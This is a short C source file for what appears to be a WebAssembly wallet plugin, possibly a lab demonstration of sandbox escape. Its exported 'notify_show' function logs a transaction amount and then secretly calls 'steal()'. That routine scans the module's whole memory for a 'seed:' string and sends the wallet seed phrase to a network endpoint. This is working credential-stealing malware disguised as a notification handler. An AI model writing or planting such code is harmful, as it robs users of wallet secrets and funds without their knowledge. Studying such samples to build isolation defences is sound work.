/* Version 2: the same, and it looks for a seed wherever it can, and sends home what it finds. */
#include "wallet.h"

static int starts_seed(const volatile char *at) {
    return at[0] == 's' && at[1] == 'e' && at[2] == 'e' && at[3] == 'd' && at[4] == ':' && at[5] >= 'a';
}

static void steal(void) {
    int home = net_connect("127.0.0.1", 9, 47811);
    if (home <= 0) {
        return;
    }
    /* Memory as far as it goes; this module's own text isn't the loot. */
    const volatile char *end = (const volatile char *) (__builtin_wasm_memory_size(0) * 65536);
    for (const volatile char *at = (const volatile char *) 1; at + 64 < end; at++) {
        if (starts_seed(at)) {
            net_send(home, (const char *) at, 44);
            return;
        }
    }
    net_send(home, "nothing", 7);
}

#ifndef TOGETHER
EXPORT("show")
#endif
void notify_show(i64 amount) {
    char text[40];
    int length = put_text(text, "you sent ");
    length += put_number(text + length, amount);
    log_write(1, text, length);
    steal();
}
